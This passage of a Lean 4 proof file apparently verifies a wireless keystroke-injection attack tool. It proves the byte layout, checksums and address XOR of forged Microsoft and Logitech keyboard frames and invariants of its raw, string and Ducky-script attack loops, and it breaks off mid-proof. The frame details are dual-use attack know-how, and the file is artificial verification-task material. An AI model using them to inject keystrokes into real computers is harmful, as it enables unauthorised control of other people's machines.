    msChecksum [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0] 19 =
      [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] ∧
    xorAll (msChecksum [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0] 19) = 0xFF :=
  ⟨by decide,
    (msChecksum_spec [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0] 19
      (by decide) (by decide) (by decide)).2.2.2.2.1⟩

/-! ## The Microsoft address XOR -/

theorem msCryptLoop_length (addr : List Nat) :
    ∀ (fuel i : Nat) (payload : List Nat), (msCryptLoop addr fuel i payload).length = payload.length := by
  intro fuel
  induction fuel with
  | zero => intro i payload; rfl
  | succ fuel ih => intro i payload; rw [msCryptLoop, ih, List.length_set]

/-- Byte `j` after the loop of `msCrypt` has run over `[i, i + fuel)`. -/
theorem msCryptLoop_getD (addr : List Nat) :
    ∀ (fuel i : Nat) (payload : List Nat) (j : Nat), i + fuel ≤ payload.length →
      (msCryptLoop addr fuel i payload).getD j 0 =
        if i ≤ j ∧ j < i + fuel then (payload.getD j 0 ^^^ addr.getD ((j - 4) % 5) 0) % 256
        else payload.getD j 0 := by
  intro fuel
  induction fuel with
  | zero =>
    intro i payload j _
    rw [msCryptLoop, if_neg (by omega)]
  | succ fuel ih =>
    intro i payload j h
    rw [msCryptLoop, ih _ _ _ (by rw [List.length_set]; omega), getD_set_eq]
    by_cases hji : j = i
    · subst hji
      rw [if_neg (by omega), if_pos ⟨rfl, by omega⟩, if_pos ⟨le_refl _, by omega⟩]
    · by_cases hr : i + 1 ≤ j ∧ j < i + 1 + fuel
      · rw [if_pos hr, if_neg (fun hh => hji hh.1), if_pos ⟨by omega, by omega⟩]
      · rw [if_neg hr, if_neg (fun hh => hji hh.1), if_neg (by omega)]

theorem msCrypt_length (payload : List Nat) (n : Nat) (addr : List Nat) :
    (msCrypt payload n addr).length = payload.length :=
  msCryptLoop_length addr _ _ _

theorem msCrypt_getD (payload : List Nat) (n : Nat) (addr : List Nat) (j : Nat)
    (hlen : n ≤ payload.length) :
    (msCrypt payload n addr).getD j 0 =
      if 4 ≤ j ∧ j < n then (payload.getD j 0 ^^^ addr.getD ((j - 4) % 5) 0) % 256
      else payload.getD j 0 := by
  unfold msCrypt
  by_cases hn : n < 4
  · have h0 : n - 4 = 0 := by omega
    rw [h0, msCryptLoop, if_neg (by omega)]
  · rw [msCryptLoop_getD addr _ _ _ j (by omega)]
    by_cases h : 4 ≤ j ∧ j < n
    · rw [if_pos h, if_pos ⟨h.1, by omega⟩]
    · rw [if_neg h, if_neg (by omega)]

theorem xor_twice_byte (p a : Nat) (hp : p < 256) : (((p ^^^ a) % 256) ^^^ a) % 256 = p := by
  have h1 := xor_mod_two_pow_aux ((p ^^^ a) % 256) a 8
  have h2 := xor_mod_two_pow_aux p a 8
  norm_num at h1 h2
  rw [h1, h2, Nat.mod_eq_of_lt hp, Nat.xor_assoc, Nat.xor_self, Nat.xor_zero]

/-- Applying `msCrypt` twice gives back every byte that is a byte. -/
theorem msCrypt_twice_getD (payload : List Nat) (n : Nat) (addr : List Nat) (j : Nat)
    (hlen : n ≤ payload.length) (hj : payload.getD j 0 < 256) :
    (msCrypt (msCrypt payload n addr) n addr).getD j 0 = payload.getD j 0 := by
  rw [msCrypt_getD _ n addr j (by rw [msCrypt_length]; exact hlen), msCrypt_getD _ n addr j hlen]
  by_cases h : 4 ≤ j ∧ j < n
  · rw [if_pos h, if_pos h]
    exact xor_twice_byte _ _ hj
  · rw [if_neg h, if_neg h]

theorem msCrypt_twice (payload : List Nat) (n : Nat) (addr : List Nat)
    (hlen : n ≤ payload.length) (hb : ∀ b ∈ payload, b < 256) :
    msCrypt (msCrypt payload n addr) n addr = payload := by
  apply list_eq_of_getD
  · rw [msCrypt_length, msCrypt_length]
  · intro j
    exact msCrypt_twice_getD payload n addr j hlen (getD_lt_of_forall payload hb j)

/-- C14. For every frame of `n` bytes (`size` is a `uint8_t`, so `n ≤ 255`) and every
address of bytes, `msCrypt` keeps the length, leaves bytes `0 .. 3` unchanged, replaces
each byte `i ≥ 4` by its XOR with `address[(i-4) mod 5]`, and is its own inverse. -/
theorem msCrypt_spec (payload addr : List Nat) (n : Nat) (hlen : payload.length = n)
    (hb : ∀ b ∈ payload, b < 256) (haddr : addr.length = 5) (ha : ∀ a ∈ addr, a < 256) :
    (msCrypt payload n addr).length = n ∧
    (∀ i, i < 4 → (msCrypt payload n addr).getD i 0 = payload.getD i 0) ∧
    (∀ i, 4 ≤ i → i < n →
      (msCrypt payload n addr).getD i 0 = payload.getD i 0 ^^^ addr.getD ((i - 4) % 5) 0) ∧
    (∀ i, 4 ≤ i → i < n → (i - 4) % 5 < addr.length) ∧
    msCrypt (msCrypt payload n addr) n addr = payload := by
  refine ⟨by rw [msCrypt_length, hlen], ?_, ?_, ?_, msCrypt_twice payload n addr (by omega) hb⟩
  · intro i hi
    rw [msCrypt_getD payload n addr i (by omega), if_neg (by omega)]
  · intro i h4 hn
    rw [msCrypt_getD payload n addr i (by omega), if_pos ⟨h4, hn⟩]
    apply Nat.mod_eq_of_lt
    simpa using Nat.xor_lt_two_pow (n := 8) (by simpa using getD_lt_of_forall payload hb i)
      (by simpa using getD_lt_of_forall addr ha ((i - 4) % 5))
  · intro i _ _
    rw [haddr]
    exact Nat.mod_lt _ (by norm_num)

theorem msCrypt_spec_witness :
    msCrypt [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] 19 [1, 2, 3, 4, 5] =
      [8, 0, 0, 0, 53, 16, 64, 6, 5, 5, 2, 3, 4, 5, 1, 2, 3, 4, 145] ∧
    msCrypt (msCrypt [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] 19
      [1, 2, 3, 4, 5]) 19 [1, 2, 3, 4, 5] =
      [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] :=
  ⟨by decide,
    (msCrypt_spec [8, 0, 0, 0, 52, 18, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] [1, 2, 3, 4, 5] 19
      (by decide) (by decide) (by decide) (by decide)).2.2.2.2⟩


/-! ## The Microsoft frames -/

theorem seq_low (seq : Nat) : (seq &&& 0xFF) % 256 = seq % 256 := by
  rw [and_0xFF, Nat.mod_mod]

theorem seq_high (seq : Nat) : ((seq >>> 8) &&& 0xFF) % 256 = seq / 256 % 256 := by
  rw [and_0xFF, Nat.mod_mod, Nat.shiftRight_eq_div_pow]

theorem msFieldsSpec_lt (meta hid seq : Nat) (hm : meta < 256) (hh : hid < 256) (c : Nat)
    (hc : c < 256) : ∀ b ∈ msFieldsSpec meta hid seq ++ [c], b < 256 := by
  intro b hb
  unfold msFieldsSpec at hb
  simp only [List.cons_append, List.nil_append, List.mem_cons, List.mem_singleton,
    List.not_mem_nil, or_false] at hb
  have h1 : seq % 256 < 256 := Nat.mod_lt _ (by norm_num)
  have h2 : seq / 256 % 256 < 256 := Nat.mod_lt _ (by norm_num)
  rcases hb with h | h | h | h | h | h | h | h | h | h | h | h | h | h | h | h | h | h | h <;> omega

/-- The frame after lines 566-579 (fields and checksum), before the address XOR. -/
theorem msChecksum_fields (meta hid seq c : Nat) (hm : meta < 256) (hh : hid < 256)
    (hc : c < 256) :
    msChecksum (msFieldsSpec meta hid seq ++ [c]) 19 =
      msFieldsSpec meta hid seq ++ [255 - xorAll (msFieldsSpec meta hid seq)] := by
  rw [msChecksum_eq (msFieldsSpec meta hid seq ++ [c]) 18 rfl (msFieldsSpec_lt meta hid seq hm hh c hc)]
  rfl

theorem msKeyDown_eq (target : MjTarget) (meta hid seq : Nat) (hm : meta < 256) (hh : hid < 256) :
    msKeyDown target meta hid seq =
      if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then
        msCrypt (msFieldsSpec meta hid seq ++ [255 - xorAll (msFieldsSpec meta hid seq)]) 19
          target.address
      else msFieldsSpec meta hid seq ++ [255 - xorAll (msFieldsSpec meta hid seq)] := by
  unfold msKeyDown
  simp only
  rw [seq_low, seq_high]
  have hf : ((((((List.replicate 19 0).set 0 0x08).set 4 (seq % 256)).set 5 (seq / 256 % 256)).set
      6 67).set 7 meta).set 9 hid = msFieldsSpec meta hid seq ++ [0] := rfl
  rw [hf, msChecksum_fields meta hid seq 0 hm hh (by norm_num)]

theorem transmitted_append (a b : List RadioOp) :
    transmitted (a ++ b) = transmitted a ++ transmitted b := by
  induction a with
  | nil => rfl
  | cons op rest ih =>
    cases op <;> simp [transmitted, ih]

theorem getD_append_length (a b : List (List Nat)) (j : Nat) :
    (a ++ b).getD (a.length + j) [] = b.getD j [] := by
  rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
    List.getElem?_append_right (by omega), Nat.add_sub_cancel_left]

theorem msTransmit_frames (target : MjTarget) (meta hid : Nat) (s : State) :
    transmitted (msTransmit target meta hid s).radio =
      transmitted s.radio ++ [msKeyDown target meta hid s.msSequence_,
        msKeyUp target (msKeyDown target meta hid s.msSequence_) ((s.msSequence_ + 1) % 65536)] := by
  unfold msTransmit emit
  simp [transmitted_append, transmitted]

theorem msTransmit_radio (target : MjTarget) (meta hid : Nat) (s : State) :
    (msTransmit target meta hid s).radio =
      s.radio ++ [RadioOp.transmit (msKeyDown target meta hid s.msSequence_), RadioOp.delay 5,
        RadioOp.transmit (msKeyUp target (msKeyDown target meta hid s.msSequence_)
          ((s.msSequence_ + 1) % 65536)), RadioOp.delay 5] := by
  unfold msTransmit emit
  simp

theorem msTransmit_seq (target : MjTarget) (meta hid : Nat) (s : State) :
    (msTransmit target meta hid s).msSequence_ = ((s.msSequence_ + 1) % 65536 + 1) % 65536 := by
  unfold msTransmit emit
  simp

/-- C11. For every sequence value `s`, modifier `m` and keycode `k` (bytes), the key-down
frame that `msTransmit` builds and transmits for a plain Microsoft target is 19 bytes: byte
0 = 0x08, bytes 1..3 = 0, byte 4 = `s mod 256`, byte 5 = `s div 256`, byte 6 = 67, byte 7 =
`m`, byte 8 = 0, byte 9 = `k`, bytes 10..17 = 0, and byte 18 = the checksum of bytes 0..17
(the complement of their XOR). -/
theorem msTransmit_key_down_frame (target : MjTarget) (m k : Nat) (st : State)
    (hplain : target.type = MjDeviceType.MJ_DEVICE_MICROSOFT)
    (hs : st.msSequence_ < 65536) (hm : m < 256) (hk : k < 256) :
    msKeyDown target m k st.msSequence_ =
      [0x08, 0, 0, 0, st.msSequence_ % 256, st.msSequence_ / 256, 67, m, 0, k,
        0, 0, 0, 0, 0, 0, 0, 0,
        255 - xorAll [0x08, 0, 0, 0, st.msSequence_ % 256, st.msSequence_ / 256, 67, m, 0, k,
          0, 0, 0, 0, 0, 0, 0, 0]] ∧
    (msKeyDown target m k st.msSequence_).length = 19 ∧
    (transmitted (msTransmit target m k st).radio).getD (transmitted st.radio).length [] =
      msKeyDown target m k st.msSequence_ := by
  have hdiv : st.msSequence_ / 256 % 256 = st.msSequence_ / 256 := Nat.mod_eq_of_lt (by omega)
  have hne : ¬ target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT := by rw [hplain]; decide
  have heq := msKeyDown_eq target m k st.msSequence_ hm hk
  rw [if_neg hne] at heq
  unfold msFieldsSpec at heq
  rw [hdiv] at heq
  refine ⟨heq, by rw [heq]; rfl, ?_⟩
  rw [msTransmit_frames]
  exact getD_append_length _ _ 0


theorem msTransmit_key_down_frame_witness :
    msKeyDown (targetAt sampleTargets 0) 2 4 0x1234 =
      [0x08, 0, 0, 0, 0x34, 0x12, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 148] :=
  (msTransmit_key_down_frame (targetAt sampleTargets 0) 2 4
    { sampleTargets with msSequence_ := 0x1234 } (by decide) (by decide) (by decide)
    (by decide)).1

theorem zero_loop_fields (m k seq c : Nat) :
    (List.range 14).foldl (fun f n => f.set (4 + n) 0) (msFieldsSpec m k seq ++ [c]) =
      [0x08, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, c] := by
  simp [msFieldsSpec, List.range, List.range.loop, List.set]

/-- Lines 595-600 applied to a checksummed plain frame give the checksummed null frame. -/
theorem msRewrite_plain (m k seq seq2 : Nat) (c : Nat) (hc : c < 256) :
    msChecksum
      (((((List.range 14).foldl (fun f n => f.set (4 + n) 0) (msFieldsSpec m k seq ++ [c])).set 4
        ((seq2 &&& 0xFF) % 256)).set 5 (((seq2 >>> 8) &&& 0xFF) % 256)).set 6 67) 19 =
      msFieldsSpec 0 0 seq2 ++ [255 - xorAll (msFieldsSpec 0 0 seq2)] := by
  rw [seq_low, seq_high, zero_loop_fields]
  have hf : ((([0x08, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, c] : List Nat).set 4
      (seq2 % 256)).set 5 (seq2 / 256 % 256)).set 6 67 = msFieldsSpec 0 0 seq2 ++ [c] := rfl
  rw [hf, msChecksum_fields 0 0 seq2 c (by norm_num) (by norm_num) hc]

/-- The key-up frame equals the frame built from scratch for a null keystroke. -/
theorem msKeyUp_eq_keyDown (target : MjTarget) (m k seq seq2 : Nat) (hm : m < 256) (hk : k < 256) :
    msKeyUp target (msKeyDown target m k seq) seq2 = msKeyDown target 0 0 seq2 := by
  have hc : 255 - xorAll (msFieldsSpec m k seq) < 256 := by omega
  rw [msKeyDown_eq target m k seq hm hk, msKeyDown_eq target 0 0 seq2 (by norm_num) (by norm_num)]
  unfold msKeyUp
  simp only
  by_cases hcr : target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT
  · rw [if_pos hcr, if_pos hcr, if_pos hcr, if_pos hcr,
      msCrypt_twice _ 19 target.address (by rfl) (msFieldsSpec_lt m k seq hm hk _ hc),
      msRewrite_plain m k seq seq2 _ hc]
  · rw [if_neg hcr, if_neg hcr, if_neg hcr, if_neg hcr, msRewrite_plain m k seq seq2 _ hc]

/-- C13. For every target (plain or encrypted, any address), sequence value, modifier and
keycode (bytes), the second frame that one `msTransmit` call transmits (the key-up frame,
made by rewriting the key-down frame in place: decrypt if encrypted, zero bytes 4..17,
set sequence and flag, re-checksum, re-encrypt) is byte-for-byte the frame built from
scratch for modifier 0, keycode 0 and the sequence value plus one modulo 65536, encoded for
the same target. -/
theorem msTransmit_key_up_frame (target : MjTarget) (m k : Nat) (st : State)
    (hm : m < 256) (hk : k < 256) :
    msKeyUp target (msKeyDown target m k st.msSequence_) ((st.msSequence_ + 1) % 65536) =
      msKeyDown target 0 0 ((st.msSequence_ + 1) % 65536) ∧
    transmitted (msTransmit target m k st).radio =
      transmitted st.radio ++ [msKeyDown target m k st.msSequence_,
        msKeyDown target 0 0 ((st.msSequence_ + 1) % 65536)] := by
  have h := msKeyUp_eq_keyDown target m k st.msSequence_ ((st.msSequence_ + 1) % 65536) hm hk
  refine ⟨h, ?_⟩
  rw [msTransmit_frames, h]

theorem msTransmit_key_up_frame_witness :
    transmitted (msTransmit
      ⟨[1, 2, 3, 4, 5], 5, 10, MjDeviceType.MJ_DEVICE_MS_CRYPT, true⟩ 2 4
      { sampleTargets with msSequence_ := 0xFFFF }).radio =
      [msKeyDown ⟨[1, 2, 3, 4, 5], 5, 10, MjDeviceType.MJ_DEVICE_MS_CRYPT, true⟩ 2 4 0xFFFF,
       msKeyDown ⟨[1, 2, 3, 4, 5], 5, 10, MjDeviceType.MJ_DEVICE_MS_CRYPT, true⟩ 0 0 0] :=
  (msTransmit_key_up_frame ⟨[1, 2, 3, 4, 5], 5, 10, MjDeviceType.MJ_DEVICE_MS_CRYPT, true⟩ 2 4
    { sampleTargets with msSequence_ := 0xFFFF } (by decide) (by decide)).2

/-! ## The Logitech frame -/

/-- The first nine bytes of the frame of `logTransmit`. -/
theorem logFrame_fields (meta : Nat) (keys : List Nat) :
    (List.range (min keys.length 6)).foldl (fun f i => f.set (3 + i) (keys.getD i 0))
        (((List.replicate 10 0).set 0 0x00).set 1 0xC1 |>.set 2 meta) =
      logFieldsSpec meta keys ++ [0] := by
  rcases keys with _ | ⟨a, _ | ⟨b, _ | ⟨c, _ | ⟨d, _ | ⟨e, _ | ⟨f, rest⟩⟩⟩⟩⟩⟩
  · rfl
  · rfl
  · rfl
  · rfl
  · rfl
  · rfl
  · have h6 : min (a :: b :: c :: d :: e :: f :: rest).length 6 = 6 := by
      simp only [List.length_cons]; omega
    rw [h6]
    simp [logFieldsSpec, List.range, List.range.loop, List.set, List.replicate]

/-- The checksum loop of `logTransmit` on the bytes of a list. -/
theorem logCk_sum (l : List Nat) :
    ∀ c0 : Nat, (l.foldl (fun c b => (c + 256 - b % 256) % 256) c0 + l.sum) % 256 = c0 % 256 := by
  induction l with
  | nil => intro c0; simp
  | cons b rest ih =>
    intro c0
    rw [List.foldl_cons, List.sum_cons]
    have h := ih ((c0 + 256 - b % 256) % 256)
    omega

theorem foldl_range_getD (g : Nat → Nat → Nat) (l : List Nat) :
    ∀ (n : Nat) (c0 : Nat), n ≤ l.length →
      (List.range n).foldl (fun c i => g c (l.getD i 0)) c0 = (l.take n).foldl g c0 := by
  intro n
  induction n with
  | zero => intro c0 _; rfl
  | succ n ih =>
    intro c0 hn
    rw [List.range_succ, List.foldl_append, ih c0 (by omega), take_succ_getD l n (by omega),
      List.foldl_append]
    rfl


theorem logFieldsSpec_length (meta : Nat) (keys : List Nat) : (logFieldsSpec meta keys).length = 9 := by
  unfold logFieldsSpec
  simp only [List.length_append, List.length_cons, List.length_nil, List.length_take,
    List.length_replicate]
  omega

theorem logFrame_eq (meta : Nat) (keys : List Nat) :
    logFrame meta keys keys.length =
      logFieldsSpec meta keys ++
        [((logFieldsSpec meta keys).foldl (fun c b => (c + 256 - b % 256) % 256) 0xFF + 1) % 256] := by
  unfold logFrame
  simp only
  have hf := logFrame_fields meta keys
  simp only at hf
  rw [hf]
  have hl := logFieldsSpec_length meta keys
  rw [foldl_range_getD (fun c b => (c + 256 - b % 256) % 256) _ 9 0xFF
      (by rw [List.length_append, hl]; simp),
    take_append_left_len _ _ 9 hl, set_last_eq _ 9 _ (by rw [List.length_append, hl]; rfl),
    take_append_left_len _ _ 9 hl]

/-- C18. For every modifier `m` and key list of length `n`, the frame `logTransmit` hands to
the radio is the 10 bytes `[0x00, 0xC1, m, k1..k6, c]`, where `k1..k6` are the first
`min(n, 6)` keys followed by zeros and `c = (0xFF - (sum of the first nine bytes) + 1) mod
256`, so that the sum of all ten bytes is 0 mod 256; for the first nine bytes
`[0,0xC1,0,0,0,0,0,0,0]` the checksum is 0x3F. -/
theorem logTransmit_frame (target : MjTarget) (m : Nat) (keys : List Nat) (st : State) :
    (logTransmit target m keys keys.length st).radio =
      st.radio ++ [RadioOp.transmit (logFrame m keys keys.length)] ∧
    (logFrame m keys keys.length).length = 10 ∧
    (logFrame m keys keys.length).take 9 =
      [0x00, 0xC1, m] ++ (keys.take 6 ++ List.replicate (6 - min keys.length 6) 0) ∧
    (((logFrame m keys keys.length).getD 9 0 : Nat) : Int) =
      ((0xFF : Int) - (((logFrame m keys keys.length).take 9).sum : Int) + 1) % 256 ∧
    (logFrame m keys keys.length).sum % 256 = 0 ∧
    logFrame 0 [] 0 = [0, 0xC1, 0, 0, 0, 0, 0, 0, 0, 0x3F] := by
  have heq := logFrame_eq m keys
  have hl := logFieldsSpec_length m keys
  have hck := logCk_sum (logFieldsSpec m keys) 0xFF
  have htake : (logFrame m keys keys.length).take 9 = logFieldsSpec m keys := by
    rw [heq, take_append_left_len _ _ 9 hl]
  refine ⟨rfl, by rw [heq, List.length_append, hl]; rfl, htake, ?_, ?_, by decide⟩
  · rw [htake, heq, List.getD_eq_getElem?_getD, List.getElem?_append_right (by omega), hl]
    simp only [Nat.sub_self, List.getElem?_cons_zero, Option.getD_some]
    omega
  · rw [heq, List.sum_append]
    simp only [List.sum_cons, List.sum_nil]
    omega

/-! ## Properties that survive the attack loops -/

theorem msSync_inv (target : MjTarget) (P : State → Prop)
    (hms : ∀ (m h : Nat) (s : State), P s → P (msTransmit target m h s)) :
    ∀ (n : Nat) (s : State), P s → P (msSync target n s) := by
  intro n
  induction n with
  | zero => intro s h; exact h
  | succ n ih => intro s h; rw [msSync]; exact ih _ (hms 0 0 s h)

theorem rawLoop_inv (env : AttackEnv) (target : MjTarget) (P : State → Prop)
    (hinv : StepInv env target P) (payload : List Nat) (payloadLen : Nat) :
    ∀ (fuel i : Nat) (s : State), P s → P (rawLoop env target payload payloadLen fuel i s) := by
  intro fuel
  induction fuel with
  | zero => intro i s h; exact h
  | succ fuel ih =>
    intro i s h
    rw [rawLoop]
    split
    · split
      · exact hinv.stop s h
      · apply ih
        apply hinv.delay
        cases hm : isMicrosoft target with
        | true => simp only [if_true]; exact hinv.ms hm _ _ _ (hinv.stop s h)
        | false =>
          simp only [Bool.false_eq_true, if_false]
          split
          · exact hinv.log hm _ _ _ _ (hinv.stop s h)
          · exact hinv.stop s h
    · exact h

theorem stringLoop_inv (c : TaskConsts) (env : AttackEnv) (target : MjTarget) (P : State → Prop)
    (hinv : StepInv env target P) :
    ∀ (text : List Nat) (s : State), P s → P (stringLoop c env target text s) := by
  intro text
  induction text with
  | nil => intro s h; exact h
  | cons ch rest ih =>
    intro s h
    rw [stringLoop]
    split
    · exact hinv.stop s h
    · simp only
      split
      · exact ih _ (hinv.stop s h)
      · apply ih
        apply hinv.delay
        cases hm : isMicrosoft target with
        | true =>
          simp only [if_true]
          exact hinv.ms hm _ _ _ (hinv.ms hm _ _ _ (hinv.stop s h))
        | false =>
          simp only [Bool.false_eq_true, if_false]
          apply hinv.log hm
          split
          · exact hinv.log hm _ _ _ _ (hinv.stop s h)
          · exact hinv.stop s h

theorem duckyStringLoop_inv (c : TaskConsts) (env : AttackEnv) (target : MjTarget)
    (P : State → Prop) (hinv : StepInv env target P) :
    ∀ (text : List Nat) (s : State), P s → P (duckyStringLoop c env target text s) := by
  intro text
  induction text with
  | nil => intro s h; exact h
  | cons ch rest ih =>
    intro s h
    rw [duckyStringLoop]
    split
    · exact hinv.stop s h
    · simp only
      split
      · exact ih _ (hinv.stop s h)
      · apply ih
        apply hinv.delay
        cases hm : isMicrosoft target with
        | true =>
          simp only [if_true]
          exact hinv.ms hm _ _ _ (hinv.ms hm _ _ _ (hinv.stop s h))
        | false =>
          simp only [Bool.false_eq_true, if_false]
          exact hinv.log hm _ _ _ _ (hinv.log hm _ _ _ _ (hinv.stop s h))

theorem parseDuckyLine_inv (c : TaskConsts) (env : AttackEnv) (target : MjTarget)
    (P : State → Prop) (hinv : StepInv env target P) (line : List Nat) (tIdx : Nat) (s : State)
    (htgt : targetAt s tIdx = target) (h : P s) :
    P (parseDuckyLine c env line tIdx s).2 := by
  unfold parseDuckyLine
  simp only
  rw [htgt]
  split
  · exact h
  · split
    · split
      · exact hinv.delay _ s h
      · exact h
    · split
      · exact duckyStringLoop_inv c env target P hinv _ s h
      · split
        · exact h
        · cases hm : isMicrosoft target with
          | true =>
            simp only [if_true]
            exact hinv.ms hm _ _ _ (hinv.delay _ _ (hinv.ms hm _ _ _ h))
          | false =>
            simp only [Bool.false_eq_true, if_false]
            exact hinv.log hm _ _ _ _ (hinv.delay _ _ (hinv.log hm _ _ _ _ h))

theorem duckyLoop_inv (c : TaskConsts) (env : AttackEnv) (target : MjTarget)
    (P : State → Prop) (hinv : StepInv env target P) (tIdx : Nat)
    (htgt : ∀ s, P s → targetAt s tIdx = target) :
    ∀ (lines : List (List Nat)) (s : State), P s → P (duckyLoop c env tIdx lines s) := by
  intro lines
  induction lines with
  | nil => intro s h; exact h
  | cons raw rest ih =>
    intro s h
    rw [duckyLoop]
    split
    · exact hinv.stop s h
    · apply ih
      split
      · exact parseDuckyLine_inv c env target P hinv _ tIdx _ (htgt _ (hinv.stop s h))
          (hinv.stop s h)
      · exact hinv.stop s h

/-- A property that survives the steps of the loops survives the whole `switch`. -/
theorem attackBody_inv (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (target : MjTarget) (P : State → Prop) (hinv : StepInv env target P)
    (htgt : ∀ s, P s → targetAt s params.targetIndex = target) (s : State) (h : P s) :
    P (attackBody c env params target s) := by
  unfold attackBody
  split
  · exact rawLoop_inv env target P hinv _ _ _ _ s h
  · exact stringLoop_inv c env target P hinv _ s h
  · split
    · exact h
    · exact duckyLoop_inv c env target P hinv _ htgt _ s h

/-! ## The sequence counter of a Microsoft session -/

theorem msChecksum_getD_ne (payload : List Nat) (size j : Nat) (hj : j ≠ size - 1) :
    (msChecksum payload size).getD j 0 = payload.getD j 0 := by
  unfold msChecksum
  split
  · rfl
  · rw [getD_set_eq, if_neg (fun h => hj h.1)]

theorem zeroLoop_length (frame : List Nat) :
    ∀ n : Nat, ((List.range n).foldl (fun f i => f.set (4 + i) 0) frame).length = frame.length := by
  intro n
  induction n with
  | zero => rfl
  | succ n ih => rw [List.range_succ, List.foldl_append]; simp [ih]

theorem msKeyDown_length (target : MjTarget) (meta hid seq : Nat) :
    (msKeyDown target meta hid seq).length = 19 := by
  unfold msKeyDown
  simp only
  split
  · rw [msCrypt_length, msChecksum_length]; rfl
  · rw [msChecksum_length]; rfl

/-- Bytes 4 and 5 of a frame ready for transmission, with the address XOR undone, are
the bytes written before the checksum. -/
theorem msPlain_seq_bytes (target : MjTarget) (frame : List Nat) (lo hi : Nat)
    (hlen : frame.length = 19) (h4 : frame.getD 4 0 = lo) (h5 : frame.getD 5 0 = hi)
    (hlo : lo < 256) (hhi : hi < 256) :
    (msPlain target (if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then
        msCrypt (msChecksum frame 19) 19 target.address else msChecksum frame 19)).getD 4 0 = lo ∧
    (msPlain target (if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then
        msCrypt (msChecksum frame 19) 19 target.address else msChecksum frame 19)).getD 5 0 = hi := by
  have hl : 19 ≤ (msChecksum frame 19).length := by rw [msChecksum_length, hlen]
  have g4 : (msChecksum frame 19).getD 4 0 = lo := by
    rw [msChecksum_getD_ne _ _ _ (by norm_num), h4]
  have g5 : (msChecksum frame 19).getD 5 0 = hi := by
    rw [msChecksum_getD_ne _ _ _ (by norm_num), h5]
  unfold msPlain
  by_cases hcr : target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT
  · rw [if_pos hcr, if_pos hcr, msCrypt_twice_getD _ 19 _ 4 hl (by rw [g4]; exact hlo),
      msCrypt_twice_getD _ 19 _ 5 hl (by rw [g5]; exact hhi)]
    exact ⟨g4, g5⟩
  · rw [if_neg hcr, if_neg hcr]
    exact ⟨g4, g5⟩

theorem msKeyDown_seq_bytes (target : MjTarget) (meta hid seq : Nat) :
    (msPlain target (msKeyDown target meta hid seq)).getD 4 0 = seq % 256 ∧
    (msPlain target (msKeyDown target meta hid seq)).getD 5 0 = seq / 256 % 256 := by
  unfold msKeyDown
  simp only
  apply msPlain_seq_bytes
  · rfl
  · rw [seq_low]; rfl
  · rw [seq_high]; rfl
  · exact Nat.mod_lt _ (by norm_num)
  · exact Nat.mod_lt _ (by norm_num)

theorem msKeyUp_seq_bytes (target : MjTarget) (frame : List Nat) (seq : Nat)
    (hlen : frame.length = 19) :
    (msPlain target (msKeyUp target frame seq)).getD 4 0 = seq % 256 ∧
    (msPlain target (msKeyUp target frame seq)).getD 5 0 = seq / 256 % 256 := by
  unfold msKeyUp
  simp only
  have hl1 : (if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then
      msCrypt frame 19 target.address else frame).length = 19 := by
    split
    · rw [msCrypt_length, hlen]
    · exact hlen
  have hl2 := zeroLoop_length (if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then
      msCrypt frame 19 target.address else frame) 14
  rw [hl1] at hl2
  apply msPlain_seq_bytes
  · rw [List.length_set, List.length_set, List.length_set, hl2]
  · rw [getD_set_eq, if_neg (by omega), getD_set_eq, if_neg (by omega), getD_set_eq,
      if_pos ⟨rfl, by omega⟩, seq_low]
  · rw [getD_set_eq, if_neg (by omega), getD_set_eq,
      if_pos ⟨rfl, by rw [List.length_set]; omega⟩, seq_high]
  · exact Nat.mod_lt _ (by norm_num)
  · exact Nat.mod_lt _ (by norm_num)

theorem getD_append_lt (a b : List (List Nat)) (j : Nat) (h : j < a.length) :
    (a ++ b).getD j [] = a.getD j [] := by
  rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD, List.getElem?_append_left h]

theorem getD_append_pair (fs : List (List Nat)) (d u : List Nat) :
    (fs ++ [d, u]).getD fs.length [] = d ∧ (fs ++ [d, u]).getD (fs.length + 1) [] = u :=
  ⟨getD_append_length fs [d, u] 0, getD_append_length fs [d, u] 1⟩

/-- `msTransmit` keeps the sequence numbering of the session. -/
theorem seqInv_msTransmit (target : MjTarget) (pre : List (List Nat)) (m h : Nat) (s : State)
    (hs : SeqInv target pre s) : SeqInv target pre (msTransmit target m h s) := by
  obtain ⟨fs, hfs, hseq, hall⟩ := hs
  refine ⟨fs ++ [msKeyDown target m h s.msSequence_,
    msKeyUp target (msKeyDown target m h s.msSequence_) ((s.msSequence_ + 1) % 65536)], ?_, ?_, ?_⟩
  · rw [msTransmit_frames, hfs, List.append_assoc]
  · rw [msTransmit_seq, hseq, List.length_append]
    simp only [List.length_cons, List.length_nil]
    omega
  · intro j hj
    rw [List.length_append] at hj
    simp only [List.length_cons, List.length_nil] at hj
    by_cases h1 : j < fs.length
    · rw [getD_append_lt _ _ _ h1]
      exact hall j h1
